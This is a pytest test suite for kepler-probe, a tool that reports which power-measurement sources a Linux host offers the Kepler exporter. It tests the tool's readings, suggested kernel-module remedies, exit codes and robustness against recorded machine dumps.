# SPDX-License-Identifier: Apache-2.0
"""What kepler-probe says of the golden machines, word for word.

BUILD names the build folder (default: build). UPDATE=1 rewrites the expectations: read the diff.
"""
import json
import os
import pathlib
import re
import shutil
import subprocess

import jsonschema
import pytest

HERE = pathlib.Path(__file__).parent
REPO = HERE.parent.parent
PROBE = REPO / os.environ.get("BUILD", "build") / "bin" / "kepler-probe"
ROOTS = REPO / "tests" / "data" / "roots"
SCHEMA = json.loads((REPO / "docs" / "findings.schema.json").read_text())

# Exit codes: of --require any, of --require measured.
MACHINES = {
    "c5-metal-ubuntu-6.8-aws": (0, 0),
    "ec2-vm": (0, 1),
    "server-powercap": (0, 0),
    "vm-msr-zero": (0, 1),
    "c5-metal-not-loaded": (0, 1),
    "container-dangling-powercap": (0, 1),
    "epyc-7763-msr": (0, 0),
    "altra-hwmon": (0, 0),
    "server-perf": (0, 0),
    "laptop-turbo": (0, 0),
    "ec2-graviton-vm": (0, 1),
    "this-machine": (0, 1),
}


def probe(*args, **kwargs):
    return subprocess.run([PROBE, *map(str, args)], capture_output=True, text=True, timeout=20, **kwargs)


def document(machine, *args):
    done = probe("--root", ROOTS / machine, "--json", *args)
    assert done.returncode in (0, 1), done.stderr
    assert done.stderr == ""
    found = json.loads(done.stdout)
    jsonschema.validate(found, SCHEMA)
    return found


def finding(found, name):
    return next(f for f in found["findings"] if f["id"] == name)


def same(text, expectation):
    path = HERE / "expected" / expectation
    if os.environ.get("UPDATE"):
        path.parent.mkdir(exist_ok=True)
        path.write_text(text)
    assert text == path.read_text()


@pytest.mark.parametrize("machine", MACHINES)
def test_text_is_as_stored(machine):
    done = probe("--root", ROOTS / machine)
    assert done.stderr == ""
    same(re.sub(r"^kepler-probe \S+", "kepler-probe VERSION", done.stdout), f"{machine}.txt")


@pytest.mark.parametrize("machine", MACHINES)
def test_document_is_as_stored(machine):
    found = document(machine)
    found["probe"] = dict.fromkeys(found["probe"], "normalised")
    same(json.dumps(found, indent=2) + "\n", f"{machine}.json")


@pytest.mark.parametrize("machine", MACHINES)
def test_exit_code_says_whether_the_requirement_holds(machine):
    of_any, of_measured = MACHINES[machine]
    assert probe("--root", ROOTS / machine, "--require", "any").returncode == of_any
    assert probe("--root", ROOTS / machine, "--require", "measured").returncode == of_measured
    done = probe("--root", ROOTS / machine, "--require", "measured", "--json")
    assert done.returncode == of_measured
    assert ("--require measured does not hold" in done.stderr) == (of_measured == 1), done.stderr


def test_c5_metal_measures_by_msr_at_once_and_names_the_package():
    found = document("c5-metal-ubuntu-6.8-aws")
    assert found["power"]["selected"] == "msr"
    assert found["power"]["bounds"] == {"low": 1, "high": 1}
    # 61.2 W (over a wrap) + 57.4 W of package
    assert finding(found, "power.msr")["evidence"]["package_watts"] == pytest.approx(118.6, abs=0.01)
    remedy = finding(found, "power.powercap")["remedy"]["command"]
    assert remedy == ("sudo apt-get update; sudo apt-get install -y linux-modules-extra-6.8.0-1021-aws && "
                      "sudo modprobe intel_rapl_msr")
    assert found["exporter"] == {"power": {"source": "msr"}, "accounting": {"source": "ebpf"}}


def test_ec2_vm_names_the_metal_type_and_offers_no_module():
    found = document("ec2-vm")
    assert "c5.metal" in finding(found, "power.powercap")["remedy"]["note"]
    assert not any(f["remedy"]["command"] for f in found["findings"] if f.get("remedy"))
    assert found["power"]["selected"] == "model"
    # of the tier 0.82 and 1.43; what the neighbours do cannot be known
    bounds = found["power"]["bounds"]
    assert 0.5 < bounds["low"] < 0.8 and 1.5 < bounds["high"] < 2.5
    assert finding(found, "power.model")["evidence"]["bound_low"] == bounds["low"]


def test_the_estimate_of_a_whole_machine_has_the_bounds_of_its_tier(a_copy):
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    shutil.rmtree(root / "dev/cpu")
    assert on(root)["power"]["bounds"] == {"low": 0.82, "high": 1.43}


def number(root, path, base=10):
    return int((root / path).read_text(), base)


def pair(root, path, base=10):
    """A file's number before and after."""
    return number(root, path, base), number(root / ".probe/later", path, base)


def counted(root, path, microjoules, wrap=0, base=10):
    """Watts of one counter, of the two files and the time between them alone."""
    before, after = pair(root, path, base)
    counts = after - before if after >= before else after - before + wrap
    return counts * microjoules / 1e6 / (number(root, ".probe/later/elapsed_ns") / 1e9)


def told(root, path):
    return sum(pair(root, path)) / 2 / 1e6


def msr(root, cpu, register, unit_register, fixed=None):
    unit = fixed or 1e6 / 2 ** (number(root, f"dev/cpu/{cpu}/msr/{unit_register}", 16) >> 8 & 0x1F)
    return counted(root, f"dev/cpu/{cpu}/msr/{register}", unit, 1 << 32, 16)


def zone(root, entry):
    wrap = number(root, f"sys/class/powercap/{entry}/max_energy_range_uj") + 1
    return counted(root, f"sys/class/powercap/{entry}/energy_uj", 1, wrap)


# Each source's machine: its zones' watts, from the dump's figures by another hand than the probe's.
WATTS = {
    ("server-powercap", "powercap"): {
        "package": lambda r: zone(r, "intel-rapl:0") + zone(r, "intel-rapl:1"),
        "dram": lambda r: zone(r, "intel-rapl:0:0") + zone(r, "intel-rapl:1:0"),
        "psys": lambda r: zone(r, "intel-rapl:2")},
    ("server-perf", "perf"): {
        "package": lambda r: sum(counted(r, f".probe/perf/energy-pkg.{c}", 1e6 / 2 ** 32) for c in (0, 32)),
        "dram": lambda r: sum(counted(r, f".probe/perf/energy-ram.{c}", 1e6 / 2 ** 32) for c in (0, 32))},
    ("c5-metal-ubuntu-6.8-aws", "msr"): {
        "package": lambda r: sum(msr(r, c, "0x611", "0x606") for c in (0, 24)),
        "dram": lambda r: sum(msr(r, c, "0x619", "0x606", 15.3) for c in (0, 24))},
    ("epyc-7763-msr", "msr"): {
        "package": lambda r: sum(msr(r, c, "0xc001029b", "0xc0010299") for c in (0, 64))},
    ("altra-hwmon", "hwmon"): {
        "package": lambda r: sum(told(r, f"sys/class/hwmon/hwmon1/power{n}_input") for n in (1, 2)),
        "psys": lambda r: told(r, "sys/class/hwmon/hwmon2/power1_average")},
}
# What make-roots.py meant; a slip in the arithmetic above would show.
PACKAGE_WATTS = {"server-powercap": 202.5, "server-perf": 202.5, "c5-metal-ubuntu-6.8-aws": 118.6,
                 "epyc-7763-msr": 281.5, "altra-hwmon": 86.18}


@pytest.mark.parametrize("machine, source", WATTS)
def test_each_source_tells_the_watts_of_its_figures(machine, source):
    found = document(machine)
    assert (found["power"]["selected"], found["power"]["quality"]) == (source, "measured")
    told_by_probe = finding(found, f"power.{source}")
    package = told_by_probe["evidence"]["package_watts"]
    assert package == pytest.approx(PACKAGE_WATTS[machine], rel=0.001)
    for name, watts in WATTS[machine, source].items():
        expected = watts(ROOTS / machine)
        said = float(re.search(rf"{name} ([0-9.]+) W", told_by_probe["detail"])[1])
        assert said == pytest.approx(expected, rel=0.001, abs=0.051)  # printed with one decimal
        if name == "package":
            assert package == pytest.approx(expected, rel=0.001)
    assert set(next(s for s in found["power"]["sources"] if s["name"] == source)["zones"]) == \
        set(WATTS[machine, source])


@pytest.mark.parametrize("machine", MACHINES)
def test_sources_are_listed_best_first(machine):
    found = document(machine)
    assert [s["name"] for s in found["power"]["sources"]] == ["powercap", "perf", "msr", "hwmon", "model"]
    usable = [s["name"] for s in found["power"]["sources"] if s["usable"]]
    assert found["power"]["selected"] == usable[0]
    assert found["exporter"]["power"]["source"] == usable[0]


def test_a_module_that_is_installed_is_loaded_and_kept_and_one_is_enough():
    found = document("c5-metal-not-loaded")
    commands = {f["remedy"]["command"] for f in found["findings"]} - {""}
    assert commands == {"sudo modprobe intel_rapl_msr"}
    assert "/etc/modules-load.d/kepler.conf" in finding(found, "power.powercap")["remedy"]["note"]
    for spare in ("power.perf", "power.msr", "module.msr", "module.rapl"):
        assert finding(found, spare)["status"] == "skip" and "not needed once" in finding(found, spare)["detail"]
    # the best estimate meanwhile: this very CPU
    assert found["power"]["bounds"] == {"low": 0.82, "high": 1.43}


def test_without_it_the_next_module_is_named():
    found = document("c5-metal-not-loaded", "--ignore", "module.intel_rapl_msr")
    assert finding(found, "power.perf")["remedy"]["command"] == "sudo modprobe rapl"


def test_links_that_lead_nowhere_are_no_missing_module():
    found = document("container-dangling-powercap")
    powercap = finding(found, "power.powercap")
    assert powercap["evidence"]["dangling_links"] == 5
    assert "volume" in powercap["remedy"]["note"] and "--host.sysfs" in powercap["remedy"]["note"]
    assert "--host.devfs" in finding(found, "power.msr")["remedy"]["note"]
    assert not any(f["remedy"]["command"] for f in found["findings"])


def test_a_power_meter_of_the_board_is_no_package(a_copy):
    root = a_copy("altra-hwmon")
    shutil.rmtree(root / "sys/class/hwmon/hwmon1")
    found = on(root)
    hwmon = finding(found, "power.hwmon")
    assert hwmon["status"] == "ok" and "psys 212.0 W" in hwmon["detail"] and "package" not in hwmon["detail"]
    assert hwmon["evidence"]["package_watts"] is None and "estimated" in hwmon["impact"]
    assert found["power"]["selected"] == "model" and found["power"]["quality"] == "estimated"


def command_of(root, *args):
    """The exporter's command under the verdict, and what is said below it."""
    return probe("--root", root, *args).stdout.partition("  $ sudo kepler-exporter")[2]


@pytest.mark.parametrize("machine", MACHINES)
def test_the_command_names_no_source_that_the_exporter_takes_by_itself(machine):
    """A name is binding: without the source the exporter does not start, and it takes no better one."""
    assert command_of(ROOTS / machine).startswith("\n")
    config = probe("--root", ROOTS / machine, "--emit-config").stdout
    assert re.findall(r'source: "(.*)"', config) == ["auto"] * config.count("source:")


def test_the_command_holds_to_what_is_left_where_the_best_is_ignored(a_copy):
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    assert command_of(root, "--ignore", "power.msr").startswith(" --power.source=model\n")
    assert 'source: "model"' in probe("--root", root, "--ignore", "power.msr", "--emit-config").stdout
    # nothing is there to be ignored
    assert command_of(root, "--ignore", "power.powercap").startswith("\n")
    assert command_of(root, "--ignore", "bpf.btf").startswith(" --accounting.source=proc\n")


def test_a_better_source_that_a_remedy_brings_is_told(a_copy):
    assert "power.powercap above brings a better source" in command_of(ROOTS / "epyc-7763-msr")
    assert "better source" not in command_of(ROOTS / "server-powercap")
    assert "better source" not in command_of(ROOTS / "altra-hwmon")


@pytest.mark.parametrize("folder, name, text, is_kept", [
    ("etc/modules-load.d", "kepler.conf", "# by kepler-probe --fix\nmsr\n", True),
    ("usr/lib/modules-load.d", "thermal.conf", "coretemp\nmsr", True),
    ("lib/modules-load.d", "x.conf", "msr\n", True),
    ("etc/modules-load.d", "kepler.conf", "# msr\nintel_rapl_msr\n", False),
    ("etc/modules-load.d", "kepler.off", "msr\n", False),
    ("etc", "modules", "# /etc/modules\nmsr\n", True),
    ("etc", "modules.conf", "msr\n", None),  # no folder at all: nothing is known
])
def test_a_module_that_was_loaded_by_hand_is_told(a_copy, folder, name, text, is_kept):
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    (root / folder).mkdir(parents=True, exist_ok=True)
    (root / folder / name).write_text(text)
    found = finding(on(root), "module.msr")
    told = "After a reboot msr is gone: see module.msr above." in command_of(root)
    if is_kept is False:
        assert (found["status"], found["detail"]) == ("warn", "loaded, but not at the next boot")
        assert found["remedy"]["command"] == "echo msr | sudo tee -a /etc/modules-load.d/kepler.conf"
        assert told
    else:
        assert (found["status"], found["detail"]) == ("ok", "loaded") and not told


def test_only_what_measures_has_to_be_kept(a_copy):
    """powercap is better; in a virtual machine msr is of no use."""
    for machine in ("server-powercap", "vm-msr-zero"):
        root = a_copy(machine)
        (root / "etc/modules-load.d").mkdir(parents=True)
        (root / "proc/modules").write_text("msr 16384 0 - Live 0x0\n")
        assert finding(on(root), "module.msr")["status"] == "ok"


def test_a_meter_beside_the_package_takes_the_chain_of_sources(a_copy):
    """A name in the findings would leave the meter out, which the probe says is shown."""
    root = a_copy("altra-hwmon")
    shutil.rmtree(root / "sys/class/hwmon/hwmon1")
    server = a_copy("c5-metal-ubuntu-6.8-aws")
    for above in ("", ".probe/later/"):
        folder = server / above / "sys/class/hwmon/hwmon0"
        folder.mkdir(parents=True)
        (folder / "name").write_text("power_meter\n")
        (folder / "power1_average").write_text("390000000\n")
    for machine, selected in ((root, "model"), (server, "msr")):
        found = on(machine)
        assert found["power"]["selected"] == selected
        assert found["exporter"]["power"]["source"] == "auto"
        assert command_of(machine).startswith("\n")
        assert command_of(machine, "--ignore", "power.hwmon").startswith(f" --power.source={selected}\n")
        alone = on(machine, "--ignore", "power.hwmon")
        assert alone["exporter"]["power"]["source"] == selected
    # the chain would begin with what is ignored
    assert on(server, "--ignore", "power.msr")["exporter"]["power"]["source"] == "model"


def test_a_meter_of_what_is_measured_anyway_changes_nothing(a_copy):
    root = a_copy("server-powercap")
    folder = root / "sys/class/hwmon/hwmon0"
    folder.mkdir(parents=True)
    (folder / "name").write_text("power_meter\n")
    (folder / "power1_average").write_text("390000000\n")
    assert on(root)["exporter"]["power"]["source"] == "powercap"


def test_sapphire_rapids_dram_is_not_a_quarter_on_a_kernel_that_thinks_so(a_copy):
    root = a_copy("server-powercap")
    assert "dram 21.6 W" in finding(on(root), "power.powercap")["detail"]
    cpuinfo = root / "proc/cpuinfo"
    cpuinfo.write_text(re.sub(r"model\t\t: 106", "model\t\t: 143", cpuinfo.read_text()))
    assert "package 202.5 W, dram 86.2 W" in finding(on(root), "power.powercap")["detail"]  # x 61.035 / 15.3


def test_more_than_is_believed_says_how_to_be_believed(a_copy):
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    before = int((root / "dev/cpu/24/msr/0x611").read_text(), 16)
    (root / ".probe/later/dev/cpu/24/msr/0x611").write_text(f"{before + round(500 * 0.5 * 2 ** 14):#x}\n")
    found = on(root)
    msr_finding = finding(found, "power.msr")
    assert msr_finding["status"] == "fail" and "500 W" in msr_finding["detail"]
    assert "--power.tdp-watts" in msr_finding["remedy"]["note"]
    assert found["power"]["selected"] == "model"


def test_a_sensor_that_says_0_is_no_meter(a_copy):
    root = a_copy("altra-hwmon")
    (root / ".probe/later/sys/class/hwmon/hwmon1/power1_input").write_text("0\n")
    assert "says 0 W" in finding(on(root), "power.hwmon")["detail"]


def test_arm_without_a_sensor_misses_one(a_copy):
    root = a_copy("altra-hwmon")
    shutil.rmtree(root / "sys/class/hwmon")
    found = on(root)
    assert finding(found, "power.hwmon")["status"] == "fail"
    assert found["power"]["selected"] == "model"


def test_a_power_meter_whose_module_is_missing_is_named(a_copy):
    root = a_copy("altra-hwmon")
    (root / "proc/modules").write_text("")
    dep = root / "lib/modules/6.8.0-45-generic/modules.dep"
    dep.write_text("kernel/drivers/hwmon/acpi_power_meter.ko.zst:\n")
    found = finding(on(root), "module.acpi_power_meter")
    assert found["status"] == "warn" and found["remedy"]["command"] == "sudo modprobe acpi_power_meter"
    shutil.rmtree(root / "sys/bus/acpi")
    assert "no such meter" in finding(on(root), "module.acpi_power_meter")["detail"]


@pytest.mark.parametrize("model, module", [(143, "intel_rapl_msr"), (173, "intel_rapl_tpmi"), (175, "intel_rapl_tpmi")])
def test_newest_xeons_take_the_other_module(a_copy, model, module):
    root = a_copy("c5-metal-not-loaded")
    cpuinfo = root / "proc/cpuinfo"
    cpuinfo.write_text(re.sub(r"model\t\t: 85", f"model\t\t: {model}", cpuinfo.read_text()))
    found = on(root)
    assert finding(found, "power.powercap")["remedy"]["command"] == f"sudo modprobe {module}"
    assert {name for name in ("intel_rapl_msr", "intel_rapl_tpmi")
            if finding(found, f"module.{name}")["status"] == "warn"} == {module}


def test_events_without_counts_are_not_judged(a_copy):
    root = a_copy("server-perf")
    shutil.rmtree(root / ".probe/perf")
    found = finding(on(root), "power.perf")
    assert found["status"] == "skip" and "foreign root" in found["detail"]


@pytest.mark.parametrize("value, word", [(b"\6\0\0\0\1", "on:"), (b"\6\0\0\0\0", "off"), (b"\6\0", "not known")])
def test_secure_boot_is_told(a_copy, value, word):
    root = a_copy("epyc-7763-msr")
    next(root.glob("sys/firmware/efi/efivars/SecureBoot-*")).write_bytes(value)
    assert word in finding(on(root), "host.secureboot")["detail"]


@pytest.mark.parametrize("value, word", [("0", "every user"), ("1", "until the next boot"), ("2", "CAP_BPF"), ("9", "newer")])
def test_who_else_may_use_ebpf_is_told_and_changes_nothing(a_copy, value, word):
    root = a_copy("server-perf")
    setting = root / "proc/sys/kernel/unprivileged_bpf_disabled"
    setting.write_text(f"{value}\n")
    assert word in finding(on(root), "bpf.unprivileged")["detail"]
    setting.unlink()
    found = on(root)
    assert finding(found, "bpf.unprivileged")["status"] == "skip"
    assert found["accounting"]["selected"] == "ebpf"


def test_registers_that_answer_0_are_a_failure():
    found = document("vm-msr-zero")
    assert finding(found, "power.msr")["status"] == "fail"
    assert found["power"]["quality"] == "estimated"


@pytest.fixture
def a_copy(tmp_path):
    def make(machine):
        to = tmp_path / machine
        shutil.copytree(ROOTS / machine, to, symlinks=True)
        return to
    return make


def on(root, *args):
    done = probe("--root", root, "--json", *args)
    assert done.returncode in (0, 1), done.stderr
    found = json.loads(done.stdout)
    jsonschema.validate(found, SCHEMA)
    return found


def test_kernel_7_has_the_module_in_linux_modules(a_copy):
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    (root / "proc/sys/kernel/osrelease").write_text("7.0.0-1004-aws\n")
    (root / "boot/config-6.8.0-1021-aws").rename(root / "boot/config-7.0.0-1004-aws")
    command = finding(on(root), "module.intel_rapl_msr")["remedy"]["command"]
    assert command == ("sudo apt-get update; sudo apt-get install -y --reinstall linux-modules-7.0.0-1004-aws && "
                       "sudo modprobe intel_rapl_msr")


def test_red_hat_takes_dnf_and_what_is_not_known_is_not_guessed(a_copy):
    root = a_copy("epyc-7763-msr")
    remedy = finding(on(root), "power.powercap")["remedy"]
    assert remedy["command"] == ("sudo dnf reinstall -y kernel-modules-core-5.14.0-427.13.1.el9_4.x86_64 && "
                                 "sudo modprobe intel_rapl_msr")
    (root / "etc/os-release").write_text("ID=sles\n")
    remedy = finding(on(root), "power.powercap")["remedy"]
    assert remedy["command"] == ""
    assert "install this system's package of kernel modules for exactly this kernel" in remedy["note"]


def test_a_module_that_lies_there_is_only_loaded(a_copy):
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    with open(root / "lib/modules/6.8.0-1021-aws/modules.dep", "a", encoding="ascii") as dep:
        dep.write("kernel/drivers/powercap/intel_rapl_msr.ko.zst: kernel/drivers/powercap/intel_rapl_common.ko.zst\n")
    assert finding(on(root), "module.intel_rapl_msr")["remedy"]["command"] == "sudo modprobe intel_rapl_msr"


def test_an_option_that_is_off_takes_another_kernel(a_copy):
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    config = root / "boot/config-6.8.0-1021-aws"
    config.write_text(config.read_text().replace("CONFIG_INTEL_RAPL=m", "# CONFIG_INTEL_RAPL is not set"))
    remedy = finding(on(root), "module.intel_rapl_msr")["remedy"]
    assert remedy["command"] == ""
    assert "another kernel" in remedy["note"]


def test_a_counter_that_stands_still_is_a_failure(a_copy):
    root = a_copy("server-powercap")
    later = root / ".probe/later/sys/class/powercap/intel-rapl:1/energy_uj"
    later.write_text((root / "sys/class/powercap/intel-rapl:1/energy_uj").read_text())
    found = on(root)
    assert finding(found, "power.powercap")["status"] == "fail"
    assert "never advances" in finding(found, "power.powercap")["detail"]
    assert found["power"]["selected"] == "model"


def test_a_counter_that_leaps_is_a_failure(a_copy):
    root = a_copy("server-powercap")
    (root / ".probe/later/sys/class/powercap/intel-rapl:0/energy_uj").write_text("171000000000\n")
    assert "2 x TDP" in finding(on(root), "power.powercap")["detail"]


def test_a_scripted_writer_is_waited_for(a_copy):
    root = a_copy("server-powercap")
    shutil.rmtree(root / ".probe/later")
    with subprocess.Popen([PROBE, "--root", root, "--json"], stdout=subprocess.PIPE, text=True) as running:
        deadline = 200
        while running.poll() is None and deadline:
            deadline -= 1
            for zone in root.glob("sys/devices/virtual/powercap/intel-rapl/**/energy_uj"):
                new = zone.with_suffix(".new")
                new.write_text(f"{int(zone.read_text()) + 10_000}\n")
                new.rename(zone)
            try:
                running.wait(0.001)
            except subprocess.TimeoutExpired:
                pass
        found = json.load(running.stdout)
    assert finding(found, "power.powercap")["evidence"]["elapsed_ms"] >= 250
    assert found["power"]["selected"] in ("powercap", "model")  # how fast the writer was is not ours
    assert finding(found, "power.powercap")["evidence"]["counters"][0]["first"] < \
        finding(found, "power.powercap")["evidence"]["counters"][0]["second"]


def test_without_acts_nothing_is_claimed(a_copy):
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    (root / ".probe/acts.json").unlink()
    found = on(root)
    acts = [f for f in found["findings"] if f["id"].startswith("bpf.") and f["id"] != "bpf.unprivileged"]
    assert {f["status"] for f in acts} == {"skip"}
    assert found["accounting"]["selected"] == "proc"


def test_an_ignored_check_does_not_count():
    found = document("c5-metal-ubuntu-6.8-aws", "--ignore", "power.msr")
    assert finding(found, "power.msr")["status"] == "skip"
    assert found["power"]["selected"] == "model"


def test_emitted_configuration():
    done = probe("--root", ROOTS / "c5-metal-ubuntu-6.8-aws", "--emit-config")
    lines = [line for line in done.stdout.splitlines() if not line.startswith("#")]
    assert lines == ["power:", '  source: "auto"', "accounting:", '  source: "auto"']
    assert "# measured power from msr\n" in done.stdout


@pytest.mark.parametrize("args, word", [
    (["--jsno"], "--jsno"),
    (["--require", "both"], "measured or any"),
    (["--ignore", "power.mrs"], "power.mrs"),
    (["--json", "--text"], "exclude"),
    (["--fix=all"], "packages"),
    (["--root", "/proc", "--record", "/x"], "--root"),
    (["extra"], "extra"),
    (["--output", ""], "--output"),
    (["--record="], "--record"),
    (["--root", ""], "--root"),
    (["--host.sysfs="], "--host.sysfs"),
])
def test_usage_is_exit_2_and_says_what(args, word):
    done = probe(*args)
    assert done.returncode == 2
    assert word in done.stderr and done.stdout == ""


def test_a_root_that_is_not_there_is_exit_3():
    done = probe("--root", "/nowhere/at/all")
    assert done.returncode == 3
    assert "/nowhere/at/all" in done.stderr


def test_a_broken_dump_is_exit_3(a_copy):
    root = a_copy("server-powercap")
    (root / ".probe/later/elapsed_ns").write_text("soon\n")
    done = probe("--root", root)
    assert done.returncode == 3 and "elapsed_ns" in done.stderr


def test_output_is_whole_or_not_at_all(tmp_path):
    out = tmp_path / "findings.json"
    assert probe("--root", ROOTS / "ec2-vm", "--output", out).returncode == 0
    jsonschema.validate(json.loads(out.read_text()), SCHEMA)
    assert [p.name for p in tmp_path.iterdir()] == ["findings.json"]


def test_output_to_a_dash_is_standard_output(tmp_path):
    done = probe("--root", ROOTS / "ec2-vm", "--json", "--output", "-", cwd=tmp_path)
    jsonschema.validate(json.loads(done.stdout), SCHEMA)
    assert not list(tmp_path.iterdir())


def test_output_to_a_pipe_that_nobody_reads_does_not_hang(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    done = probe("--root", ROOTS / "ec2-vm", "--output", tmp_path / "pipe")
    assert done.returncode == 3 and "nobody reads" in done.stderr


@pytest.mark.parametrize("what", ["fifo", "noise", "nothing", "loop", "huge", "folder", "cut"])
def test_a_hostile_dump_neither_hangs_nor_crashes(a_copy, what):
    """Every file of a machine replaced; probe() has a deadline."""
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    for path in [p for p in root.rglob("*") if p.is_symlink() or p.is_file()]:
        if ".probe" in path.relative_to(root).parts:
            continue
        bytes_before = path.read_bytes() if path.is_file() else b""
        path.unlink()
        if what == "fifo":
            os.mkfifo(path)
        elif what == "loop":
            path.symlink_to(path.name)
        elif what == "folder":
            path.mkdir()
        else:
            content = {"noise": bytes(range(256)) * 20, "cut": bytes_before[: len(bytes_before) // 2]}
            path.write_bytes(content.get(what, b""))
            if what == "huge":
                os.truncate(path, 1 << 33)
    assert on(root)["power"]["quality"] != "measured"


def test_a_full_disk_is_exit_3_and_leaves_what_was_there(tmp_path):
    disk = tmp_path / "disk"
    disk.mkdir()
    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8k", "tmpfs", disk],
                                           check=False).returncode != 0:
        pytest.skip("a small file system takes root")
    try:
        (disk / "findings.json").write_text("old")
        done = probe("--root", ROOTS / "c5-metal-ubuntu-6.8-aws", "--json", "--output", disk / "findings.json")
        assert done.returncode == 3 and "No space left" in done.stderr
        assert (disk / "findings.json").read_text() == "old"
        assert len(list(disk.iterdir())) == 1
    finally:
        subprocess.run(["umount", disk], check=True)


def test_colours_only_on_a_terminal():
    def shown(env):
        line = f"{PROBE} --root {ROOTS / 'ec2-vm'}"
        return subprocess.run(["script", "-qec", line, "/dev/null"], capture_output=True, text=True, timeout=20,
                              env={**os.environ, "TERM": "xterm", **env}, check=False).stdout
    assert "\033[" in shown({"NO_COLOR": ""})
    assert "\033[" not in shown({"NO_COLOR": "1"})
    assert "\033[" not in probe("--root", ROOTS / "ec2-vm").stdout


def test_this_host_and_its_record_agree(tmp_path):
    dump = tmp_path / "dump"
    live = probe("--json", "--record", dump)
    assert live.returncode in (0, 1), live.stderr
    told = json.loads(live.stdout)
    jsonschema.validate(told, SCHEMA)
    again = on(dump)
    for part in ("power", "accounting", "exporter"):
        assert again[part] == told[part]
    host = {k: v for k, v in told["host"].items() if k not in ("cloud", "instance_type", "region")}
    assert host.items() <= again["host"].items()
    assert probe("--record", dump).returncode == 3  # not empty


def test_a_record_holds_no_name_of_the_machine(tmp_path):
    dump = tmp_path / "dump"
    probe("--record", dump)
    name = os.uname().nodename.encode()
    secret = re.compile(rb"(?i)\b(" + re.escape(name) + rb"|i-[0-9a-f]{8,}|(?:[0-9a-f]{2}:){5}[0-9a-f]{2}|"
                        rb"ffff[0-9a-f]{12})\b")
    for path in dump.rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert not secret.search(path.read_bytes()), path


@pytest.fixture
def broken_host(a_copy, tmp_path):
    """This host, but with the processor and the files of c5.metal, and commands that only note."""
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    commands = tmp_path / "commands"
    commands.mkdir()
    log = tmp_path / "log"
    effects = {"modprobe": f"echo \"$1 1 0 - Live 0x0\" >> {root}/proc/modules"}

    def run(*args, apt_get=":"):
        for name, effect in {**effects, "apt-get": apt_get}.items():
            (commands / name).write_text(f"#!/bin/sh\necho {name} \"$@\" >> {log}\n"
                                         f"echo {name} ${{DEBIAN_FRONTEND-}} >> {log}.frontend\n{effect}\n")
            (commands / name).chmod(0o755)
        where = [f"--host.{fs}={root / name}" for fs, name in (("procfs", "proc"), ("sysfs", "sys"), ("devfs", "dev"))]
        line = ("mount -t tmpfs tmpfs /etc/modules-load.d && \"$@\" >/dev/null; code=$?; "
                "cat /etc/modules-load.d/kepler.conf 2>/dev/null; exit $code")
        done = subprocess.run(["unshare", "-m", "sh", "-c", line, "sh", PROBE, *where, *args], text=True, check=False,
                              capture_output=True, timeout=30,
                              env={**os.environ, "PATH": f"{commands}:{os.environ['PATH']}"})
        return done, log.read_text().splitlines() if log.exists() else []
    if os.geteuid() != 0 or not pathlib.Path("/etc/modules-load.d").is_dir():
        pytest.skip("takes root, and a folder /etc/modules-load.d to mount one of its own over")
    return run


def test_fix_installs_nothing_unasked(broken_host):
    done, commands = broken_host("--fix")
    assert not any(c.startswith("apt-get") for c in commands)
    assert "not installed without --fix=packages" in done.stderr


def test_fix_packages_installs_loads_and_keeps(broken_host, tmp_path):
    done, commands = broken_host("--fix=packages")
    assert done.returncode == 0, done.stderr
    package = next(c for c in commands if c.startswith("apt-get install"))
    assert package.split()[-1].startswith("linux-") and package.endswith("-6.8.0-1021-aws")
    # a fresh machine has no list of packages; nobody is there to answer
    assert commands[:3] == ["apt-get update", package, "modprobe intel_rapl_msr"]
    assert sorted(commands) == sorted(set(commands))
    frontends = (tmp_path / "log.frontend").read_text().splitlines()
    assert frontends[:2] == ["apt-get noninteractive"] * 2
    assert "intel_rapl_msr" in done.stdout.splitlines()  # of the modules-load.d file
    assert done.stderr.index("fix: apt-get update") < done.stderr.index("fix: apt-get install") < \
        done.stderr.index("fix: modprobe") < done.stderr.index("probing again")


def test_a_list_of_packages_that_cannot_be_fetched_holds_nothing_up(broken_host):
    """apt-get update fails for any one of many sources; what is asked for may be in the lists that are here."""
    done, commands = broken_host("--fix=packages", apt_get="case $1 in update) exit 100;; esac")
    assert done.returncode == 0, done.stderr
    assert "going on with the lists that are here" in done.stderr
    assert any(c.startswith("apt-get install") for c in commands) and "modprobe intel_rapl_msr" in commands


def test_a_report_that_cannot_be_printed_is_exit_3():
    with open("/dev/full", "w", encoding="ascii") as full:
        done = subprocess.run([PROBE, "--root", ROOTS / "ec2-vm"], stdout=full, stderr=subprocess.PIPE, text=True,
                              check=False, timeout=20)
    assert done.returncode == 3 and "No space left" in done.stderr


def test_no_wait_where_nothing_counts():
    # the wait would be 250 ms in each of them; a busy machine can slow down one
    assert min(document("ec2-vm")["probe"]["duration_ms"] for _ in range(5)) < 200


@pytest.mark.parametrize("acts, word", [
    ("{", "acts.json"),
    ('{"schema": "kepler-probe-acts/2"}', "kepler-probe-acts/2"),
])
def test_acts_that_cannot_be_understood_are_exit_3(a_copy, acts, word):
    root = a_copy("ec2-vm")
    (root / ".probe/acts.json").write_text(acts)
    done = probe("--root", root)
    assert done.returncode == 3 and word in done.stderr


@pytest.mark.parametrize("machine, name", [("server-powercap", "power.powercap"), ("c5-metal-ubuntu-6.8-aws", "power.msr"),
                                           ("altra-hwmon", "power.hwmon")])
def test_a_record_repeats_the_readings(a_copy, tmp_path, machine, name):
    """Recorded of the golden machine's files in place of this host's, which do not advance."""
    root = a_copy(machine)
    (root / "dev").mkdir(exist_ok=True)
    where = [f"--host.{fs}={root / folder}" for fs, folder in (("procfs", "proc"), ("sysfs", "sys"), ("devfs", "dev"))]
    dump = tmp_path / "dump"
    live = probe("--json", "--record", dump, *where)
    assert live.returncode in (0, 1), live.stderr
    told, again = finding(json.loads(live.stdout), name), finding(on(dump), name)
    assert told["evidence"]["counters"] and told["evidence"] == again["evidence"]
    # a sensor of power may stand still
